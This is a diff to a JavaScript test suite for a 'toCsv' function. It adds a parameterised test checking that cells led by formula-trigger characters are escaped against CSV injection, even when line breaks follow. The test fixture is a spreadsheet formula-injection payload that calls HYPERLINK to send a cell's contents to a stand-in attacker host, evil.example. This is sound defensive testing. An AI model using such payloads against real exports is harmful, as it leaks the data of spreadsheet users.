@@ -25,6 +25,16 @@ describe('toCsv', () => {
     expect(parsed[2]).toEqual(['\'=HYPERLINK("http://x")', "'+1", "'-2"]);
     expect(parsed[3]![0]).toBe("'@SUM(A1)");
   });
+  it.each(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])(
+    'guards a cell led by %j even when a line break follows (the break must not hide the formula)',
+    (lead) => {
+      for (const tail of ['\n', '\r', '\r\n', '\u2028', '\nmore']) {
+        const cell = `${lead}HYPERLINK("http://evil.example/?leak="&A1,"Click")${tail}`;
+        const parsed = Papa.parse<string[]>(toCsv(['x'], [[cell]]).slice(1), { skipEmptyLines: true }).data;
+        expect(parsed[1]![0]).toBe(`'${cell}`);
+      }
+    },
+  );
   it('writes null as an empty cell', () => {
     expect(toCsv(['x'], [[null]])).toBe('\uFEFFx\r\n\r\n');
   });
